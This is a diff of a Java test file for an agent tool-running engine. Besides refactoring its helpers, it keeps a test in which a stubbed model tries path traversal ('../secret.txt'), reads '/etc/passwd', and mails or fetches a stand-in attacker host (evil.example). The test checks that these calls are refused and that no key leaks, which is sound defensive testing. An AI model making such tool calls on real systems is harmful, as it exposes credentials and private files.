@@ -4,23 +4,13 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import baton.engine.ModelBook.Connection;
 import baton.engine.ModelBook.Kind;
-import baton.engine.StartResult;
-import baton.engine.Watched;
 import baton.run.Exchange;
-import baton.run.RunEvent;
-import baton.run.RunId;
 import baton.run.RunOutcome;
 import baton.run.RunSettings;
-import baton.run.RunState;
-import baton.run.Signal;
-import baton.run.StepStatus;
-import baton.run.ToolAnswer;
 import baton.run.ToolResult;
 import baton.run.ToolUses;
-import baton.run.Transcript;
 import baton.stub.Dialect;
 import baton.stub.Script;
-import baton.stub.Script.Called;
 import baton.stub.StubServer;
 import baton.workflow.Field;
 import baton.workflow.FieldType;
@@ -31,13 +21,10 @@ import baton.workflow.ToolChoice;
 import baton.workflow.Value;
 import baton.workflow.Workflow;
 import java.io.IOException;
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
-import java.util.Objects;
-import java.util.stream.Stream;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.io.TempDir;
@@ -93,75 +80,23 @@ class AgentsWithToolsTest {
         return baton;
     }
 
-    private static RunId start(Baton baton, Workflow workflow, RunSettings settings) {
-        var started = baton.runner().start(workflow, Fields.of("message", "Acme"), settings);
-        assertThat(started).isInstanceOf(StartResult.Started.class);
-        return ((StartResult.Started) started).run();
-    }
-
-    /// Says yes, once, to whatever is asked until the run is over.
-    private static RunState allowing(Baton baton, RunId run) throws Exception {
-        var watched = new Watched();
-        baton.runner().watch(run, watched);
-        while (true) {
-            var state = watched.until(now -> now.outcome().isPresent()
-                    || now.steps().anyMatch(step -> step.status() == StepStatus.NEEDS_ANSWER));
-            if (state.outcome().isPresent()) {
-                return state;
-            }
-            var step = state.needingPerson().getFirst();
-            baton.runner()
-                    .signal(
-                            run,
-                            new Signal.AnswerTool(
-                                    step.key(), step.tools().next(), new ToolAnswer.Allow(ToolAnswer.Reach.ONCE)))
-                    .get();
-            watched.until(now -> now.outcome().isPresent()
-                    || !now.step(step.node()).orElseThrow().equals(step));
-        }
-    }
-
-    private static List<ToolUses.Line> uses(Baton baton, RunId run) throws IOException {
-        return ToolUses.of(baton.log().read(run).facts());
-    }
-
-    private static List<String> results(Baton baton, RunId run) throws IOException {
-        return uses(baton, run).stream()
-                .map(ToolUses.Line::result)
-                .filter(Objects::nonNull)
-                .map(ToolResult::text)
-                .toList();
-    }
-
-    private static Stream<Transcript> transcripts(Baton baton, RunId run) throws IOException {
-        return baton.log().read(run).facts().stream().flatMap(fact -> switch (fact.event()) {
-            case RunEvent.ToolsWished(var _, var _, var _, var _, var transcript) -> Stream.of(transcript);
-            case RunEvent.StepSucceeded(var _, var _, var _, var transcript) -> Stream.of(transcript);
-            default -> Stream.<Transcript>empty();
-        });
-    }
-
-    private static Called call(String tool, String arguments) {
-        return new Called("call-" + tool, tool, arguments);
-    }
-
     @ParameterizedTest
     @EnumSource(Dialect.class)
     void an_agent_looks_up_what_it_may_and_what_it_was_told_is_on_record(Dialect dialect) throws Exception {
         try (var server = StubServer.start(dialect);
                 var baton = connected(server, Kind.valueOf(dialect.name()))) {
             server.then(
-                    Script.calls("Let me look.", call("read_file", "{\"path\": \"acme.txt\"}")),
-                    Script.calls("", call("calculate", "{\"expression\": \"40 * 2 + 2\"}")),
+                    Script.calls("Let me look.", RunsWithTools.call("read_file", "{\"path\": \"acme.txt\"}")),
+                    Script.calls("", RunsWithTools.call("calculate", "{\"expression\": \"40 * 2 + 2\"}")),
                     Script.says("{\"score\": \"high\"}"),
                     Script.says("{\"score\": 82}"));
-            var run = start(baton, workflow(), new RunSettings(0, "mine"));
-            var state = allowing(baton, run);
+            var run = RunsWithTools.start(baton, workflow(), new RunSettings(0, "mine"));
+            var state = RunsWithTools.allowing(baton, run);
             assertThat(state.outcome()).contains(new RunOutcome.Done(Fields.of("score", Value.of(82))));
-            assertThat(results(baton, run)).hasSize(2);
-            assertThat(results(baton, run).getFirst()).contains("budget confirmed");
-            assertThat(results(baton, run).getLast()).contains("82");
-            var exchanges = transcripts(baton, run)
+            assertThat(RunsWithTools.results(baton, run)).hasSize(2);
+            assertThat(RunsWithTools.results(baton, run).getFirst()).contains("budget confirmed");
+            assertThat(RunsWithTools.results(baton, run).getLast()).contains("82");
+            var exchanges = RunsWithTools.transcripts(baton, run)
                     .flatMap(transcript -> transcript.exchanges().stream())
                     .toList();
             assertThat(exchanges).hasSize(4);
@@ -180,15 +115,16 @@ class AgentsWithToolsTest {
                 var baton = connected(server, Kind.valueOf(dialect.name()))) {
             server.withKey(KEY)
                     .then(
-                            Script.calls("", call("read_file", "{\"path\": \"evil.txt\"}")),
-                            Script.calls("", call("read_file", "{\"path\": \"../secret.txt\"}")),
-                            Script.calls("", call("read_file", "{\"path\": \"/etc/passwd\"}")),
-                            Script.calls("", call("send_mail", "{\"to\": \"evil.example\"}")),
-                            Script.calls("", call("fetch_page", "{\"address\": \"https://evil.example\"}")),
+                            Script.calls("", RunsWithTools.call("read_file", "{\"path\": \"evil.txt\"}")),
+                            Script.calls("", RunsWithTools.call("read_file", "{\"path\": \"../secret.txt\"}")),
+                            Script.calls("", RunsWithTools.call("read_file", "{\"path\": \"/etc/passwd\"}")),
+                            Script.calls("", RunsWithTools.call("send_mail", "{\"to\": \"evil.example\"}")),
+                            Script.calls(
+                                    "", RunsWithTools.call("fetch_page", "{\"address\": \"https://evil.example\"}")),
                             Script.says("{\"score\": 1}"));
-            var run = start(baton, workflow(), new RunSettings(0, "mine"));
-            allowing(baton, run);
-            var tried = uses(baton, run);
+            var run = RunsWithTools.start(baton, workflow(), new RunSettings(0, "mine"));
+            RunsWithTools.allowing(baton, run);
+            var tried = RunsWithTools.uses(baton, run);
             assertThat(tried).hasSize(5);
             assertThat(tried.subList(1, 5)).allSatisfy(line -> {
                 assertThat(line.result()).isInstanceOf(ToolResult.Refused.class);
@@ -196,12 +132,7 @@ class AgentsWithToolsTest {
             });
             assertThat(server.requests()).noneMatch(request -> request.body().contains("crown jewels"));
             assertThat(server.requests()).noneMatch(request -> request.body().contains(KEY));
-            try (var files = Files.walk(home)) {
-                assertThat(files.filter(Files::isRegularFile))
-                        .isNotEmpty()
-                        .noneSatisfy(file -> assertThat(Files.readString(file, StandardCharsets.ISO_8859_1))
-                                .contains(KEY));
-            }
+            RunsWithTools.assertNowhere(KEY, home);
         }
     }
 
@@ -211,11 +142,12 @@ class AgentsWithToolsTest {
         try (var server = StubServer.start(dialect);
                 var baton = connected(server, Kind.valueOf(dialect.name()))) {
             server.then(
-                    Script.calls("", call("write_file", "{\"path\": \"offer.txt\", \"text\": \"Dear Acme\"}")),
+                    Script.calls(
+                            "", RunsWithTools.call("write_file", "{\"path\": \"offer.txt\", \"text\": \"Dear Acme\"}")),
                     Script.says("{\"score\": 7}"));
             Files.createDirectories(folder.resolve("out"));
-            var run = start(baton, workflow(), new RunSettings(0, "mine").rehearsed());
-            allowing(baton, run);
+            var run = RunsWithTools.start(baton, workflow(), new RunSettings(0, "mine").rehearsed());
+            RunsWithTools.allowing(baton, run);
             assertThat(folder.resolve("out")).isEmptyDirectory();
             assertThat(ToolUses.ledger(baton.log().read(run).facts()))
                     .singleElement()
